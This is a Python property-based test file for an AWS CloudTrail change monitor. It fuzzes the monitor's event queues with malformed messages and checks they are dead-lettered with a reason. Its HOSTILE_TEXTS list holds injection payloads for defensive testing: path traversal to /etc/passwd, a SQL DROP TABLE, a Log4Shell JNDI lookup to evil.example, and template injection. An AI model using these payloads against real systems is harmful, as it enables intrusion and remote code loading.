"""Whatever stands in a queue: nothing escapes, what is malformed is buried with a reason, and the
good message beside it is looked at."""

from __future__ import annotations

import json
from copy import deepcopy
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests.builders import API, rest_api
from tests.contract.tables import TABLE, findings_table
from tests.event_path import EventPath, Source
from tests.unit.test_cloudtrail import JUNK, record

from monitor.events.cloudtrail import parse_change
from monitor.events.requests import LOOK, WAKE
from monitor.events.routing import (
    API_GATEWAY_EVENTS,
    CREDENTIAL_READS,
    MONITOR_EVENTS,
    OTHER_EVENTS,
)
from monitor.model.change import Ignored
from monitor.stores.change_book import DynamoDbChangeBook
from monitor.stores.dynamodb import DynamoDbStore

SOURCES = ["apigateway.amazonaws.com", *OTHER_EVENTS, *MONITOR_EVENTS]
NAMES = sorted(
    {*API_GATEWAY_EVENTS, *CREDENTIAL_READS, "OpenTheGates"}
    | {name for names in (*OTHER_EVENTS.values(), *MONITOR_EVENTS.values()) for name in names}
)
HOSTILE_TEXTS = (
    "",
    "\x00",
    "\ud800",
    "../../etc/passwd",
    "'; DROP TABLE findings; --",
    "<!channel> <https://evil.example|click>",
    "${jndi:ldap://evil.example/x}",
    "*region/",
    "a" * 100_000,
    "arn:aws:apigateway:::/restapis/",
    "arn:aws:cognito-idp:::userpool/",
    "9" * 400,
    "NaN",
    "\u202e",
    "{{7*7}}",
)
HOSTILE = st.sampled_from(HOSTILE_TEXTS)
VALUES = (
    JUNK | HOSTILE | st.lists(HOSTILE, max_size=3) | st.dictionaries(HOSTILE, HOSTILE, max_size=3)
)


def places(document: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every place of a JSON document."""
    found = [path] if path else []
    members = document.items() if isinstance(document, dict) else enumerate(document) if isinstance(
        document, list) else ()  # fmt: skip
    for key, value in members:
        found += places(value, (*path, key))
    return found


@st.composite
def envelopes(draw: st.DrawFn) -> Any:
    """A good envelope, with some of its places missing or replaced."""
    document: Any = {
        "version": "0",
        "id": "x",
        "detail-type": "AWS API Call via CloudTrail",
        "account": "123456789012",
        "region": "us-east-1",
        "detail": record(
            draw(st.sampled_from(NAMES)),
            eventSource=draw(st.sampled_from(SOURCES)),
            requestParameters={
                "restApiId": "a1b2c3d4e5",
                "updateRestApiInput": {"patchOperations": [{"op": "replace", "path": "/policy"}]},
                "ModifyVpcEndpointRequest": {"VpcEndpointId": {"tag": 1, "content": "vpce-1"}},
            },
        ),
    }
    for _ in range(draw(st.integers(0, 4))):
        path = draw(st.sampled_from(places(document)))
        parent = document
        for key in path[:-1]:
            parent = parent[key]
        if draw(st.booleans()) and isinstance(parent, dict):
            del parent[path[-1]]
        else:
            parent[path[-1]] = deepcopy(draw(VALUES))
    return document


BODIES = (
    envelopes().map(json.dumps)
    | st.tuples(envelopes().map(json.dumps), st.integers(0, 3000)).map(lambda cut: cut[0][: cut[1]])
    | st.text(max_size=200)
    | VALUES.map(json.dumps)
    | st.builds(
        lambda schema, inside: json.dumps({"schema": schema, "request": inside, "subject": inside}),
        st.sampled_from([LOOK, WAKE]),
        VALUES,
    )
)


@settings(
    max_examples=250,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(st.lists(BODIES, min_size=1, max_size=4))
def test_nothing_in_the_events_queue_escapes_or_spoils_the_rest(bodies: list[str]) -> None:
    target = EventPath(Source({API: rest_api()}))
    good = json.dumps({"detail": record("CreateDeployment", eventID="good")})
    target.send(*bodies, good)
    target.settle()

    assert API in target.source.reads
    assert all(reason and reason != "tried in vain" for _, reason in target.events.dead)
    assert all(body in bodies for body, _ in target.events.dead)
    assert not set(target.counts) & {"KeyError", "TypeError", "ValueError", "AttributeError"}


@settings(max_examples=150, deadline=None)
@given(BODIES)
def test_nothing_in_the_queue_of_scans_escapes(body: str) -> None:
    target = EventPath(Source({API: rest_api()}))
    target.scans.send(body)
    target.settle()

    assert all(reason and reason != "tried in vain" for _, reason in target.scans.dead)


@settings(max_examples=300, deadline=None)
@given(envelopes())
def test_what_is_malformed_says_why(envelope: Any) -> None:
    change = parse_change(envelope)

    assert bool(change.problem) is (change.ignored is Ignored.MALFORMED)
    assert len(change.actor.name) < 2000
    assert len(change.said) <= 300


@pytest.mark.parametrize("size", [99_000, 100_000, 101_000])
def test_a_record_cut_off_at_a_hundred_kilobytes_is_looked_at_or_buried(size: int) -> None:
    """CloudTrail replaces what is too large by a remark; a body that was cut is no JSON."""
    large = record(
        "ImportRestApi", requestParameters={"body": "x" * 120_000, "restApiId": API.api_id}
    )
    omitted = record("PutRestApi", requestParameters={"omitted": True, "reason": "too large"})
    target = EventPath(Source({API: rest_api()}))
    target.send(json.dumps({"detail": large})[:size], {**omitted, "eventID": "o"})
    target.settle()

    assert [reason.partition(":")[0] for _, reason in target.events.dead] == ["not JSON"]
    assert API in target.source.reads


@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=range(len(HOSTILE_TEXTS)))
def test_hostile_text_is_stored_as_any_other(text: str) -> None:
    event = record(
        "CreateDeployment",
        eventID=f"e{text}",
        sourceIPAddress=text,
        userIdentity={"type": "IAMUser", "userName": text, "arn": text},
        requestParameters={"restApiId": API.api_id, "createDeploymentInput": {"stageName": text}},
    )
    with findings_table() as client:
        store = DynamoDbStore(client, TABLE)
        target = EventPath(Source({API: rest_api()}), store, DynamoDbChangeBook(client, TABLE))
        target.send(event)
        target.settle()

        assert target.events.dead == []
        assert store.load(API).findings
        assert list(store.untold_of(API))
